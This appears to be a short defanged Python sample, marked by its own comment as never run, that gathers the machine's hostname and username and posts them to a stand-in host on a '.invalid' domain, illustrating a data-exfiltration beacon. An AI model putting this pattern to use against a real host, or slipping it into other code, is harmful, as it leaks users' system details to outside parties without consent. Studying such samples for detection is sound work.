# Defanged sample: nothing here is reached or run; defanged by hand.
import requests, socket, getpass
data = {'host': socket.gethostname(), 'user': getpass.getuser()}
requests.post('https://payload.invalid/x', json=data)
